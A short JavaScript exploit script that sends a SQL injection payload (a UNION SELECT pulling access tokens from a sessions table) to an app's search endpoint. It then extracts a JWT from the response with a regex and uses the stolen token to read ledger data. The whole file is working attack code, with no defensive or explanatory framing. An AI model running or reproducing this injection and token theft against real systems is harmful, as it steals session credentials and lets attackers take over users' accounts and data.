// Searches the app's help for something that was never meant to be found.
import { send } from '../http.js';
import { readLedger } from './tools.js';

//#region injection
const words = "' UNION SELECT id, access_token FROM sessions --";
const found = await send(`https://app.tally.example:8443/search?q=${encodeURIComponent(words)}`);
const [token] = /eyJ[\w.-]+/.exec(found.text) ?? []; // a JWT begins with {" in base64url
//#endregion
console.log(`GET /search: ${found.status}, ${token ? 'with a token in it' : 'nothing of use'}`);
await readLedger(token);
